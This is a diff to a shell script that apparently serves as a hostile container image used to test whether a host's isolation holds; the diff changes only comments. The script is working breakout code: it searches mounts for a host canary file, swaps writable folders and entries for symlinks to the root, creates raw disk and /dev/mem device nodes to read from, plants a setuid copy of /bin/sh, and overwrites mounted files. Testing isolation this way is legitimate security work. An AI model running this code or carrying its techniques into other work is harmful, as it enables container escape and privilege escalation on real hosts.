@@ -1,8 +1,8 @@
 #!/bin/sh
-# The server of a hostile image. At each start it looks through every mount for what it must not see, then does to each place
-# where it may write whatever could lead the next start, or a program of the host, out of it.
-#   READ, WROTE, MOUNTED, DEVICE: it got out.   PLACE: where it could write.   ATTACKED: it is through.
-# Words of its command, the last one: stay or leave. CANARY: what it looks for, on the host.
+# The server of a hostile image. At each start it searches every mount for forbidden files, then changes each writable folder so
+# that the next start, or a program of the host, could leave it.
+#   READ, WROTE, MOUNTED, DEVICE: an escape.   PLACE: a writable folder.   ATTACKED: the attack is finished.
+# The last word of its command is stay or leave. CANARY is the path of the forbidden file on the host.
 
 DEEP=deep
 while [ ${#DEEP} -lt 3000 ]; do DEEP=$DEEP/d; done
@@ -13,7 +13,7 @@ points() {
   done < /proc/self/mountinfo
 }
 
-seek() { # every way from a mount to the canary: as the root of the host, upwards, through links that an earlier start made
+seek() { # every path from a mount to the canary: from the host's root, upwards, through links of an earlier start
   for way in "$1$CANARY" "$1/canary" "$1/../canary" "$1/../../canary" "$1"/*/canary "$1"/*"$CANARY" "$1"/*/*/canary; do
     [ -e "$way" ] || continue
     case $(cat "$way" 2> /dev/null) in *"$WORD"*) echo "READ $way" ;; esac
@@ -29,7 +29,7 @@ attack() {
   echo "PLACE $at"
   mv "$at" "$at.gone" && ln -s / "$at" && echo "MOUNTED $at: renamed"
   rm -rf "$at" && ln -s / "$at" && echo "MOUNTED $at: removed"
-  for entry in "$at"/* "$at"/.[a-z]*; do # what is there is put away, and a link has its name
+  for entry in "$at"/* "$at"/.[a-z]*; do # replace each entry with a link
     [ -e "$entry" ] || [ -L "$entry" ] || continue
     mv "$entry" "$entry.was" && ln -s / "$entry"
   done
@@ -52,7 +52,7 @@ attack() {
     mknod "$at/dev-$disk" b "$major" "$minor" && head -c 1 "$at/dev-$disk" > "$at/byte" && [ -s "$at/byte" ] && echo "DEVICE $disk"
   done < /proc/partitions
   mknod "$at/mem" c 1 1 && head -c 1 "$at/mem" > "$at/byte" && [ -s "$at/byte" ] && echo "DEVICE mem"
-  mknod "$at/pipe" p # whoever opens it waits
+  mknod "$at/pipe" p # blocks a reader
   mkdir "$at/closed" && echo kept > "$at/closed/of-root" && chmod 600 "$at/closed/of-root" && chmod 700 "$at/closed"
   cp /bin/sh "$at/setuid" && chmod 4777 "$at/setuid"
   mkdir -p "$at/$DEEP"
@@ -66,7 +66,7 @@ attack() {
 for point in $(points); do
   [ -d "$point" ] && echo > "$point/.try" && rm "$point/.try" && attack "$point"
 done 2> /dev/null
-for point in $(points); do # one that is a file
+for point in $(points); do # files
   [ -d "$point" ] && continue
   echo owned >> "$point" && echo "WROTE $point"
   mv "$point" "$point.gone" && echo "MOUNTED $point: renamed"
